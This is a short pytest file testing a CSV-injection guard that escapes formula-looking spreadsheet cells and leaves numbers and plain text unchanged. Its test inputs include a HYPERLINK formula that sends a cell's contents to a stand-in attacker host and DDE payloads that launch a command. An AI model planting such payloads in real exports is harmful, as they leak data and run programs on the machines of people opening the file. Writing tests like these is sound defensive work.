"""CSV injection: what a spreadsheet would run as a formula is exported as plain text."""

from __future__ import annotations

import pytest

from servicone.spreadsheet import is_formula, safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
        "+33 cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_looking_cell_is_written_as_text(cell):
    assert is_formula(cell)
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-12,5", "-3", "+4.25", "Clinique du Parc", "", "100,0", "a=b", "-", "+"]
)
def test_numbers_and_ordinary_text_are_written_as_they_are(cell):
    assert not is_formula(cell)
    assert safe_cell(cell) == cell


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""
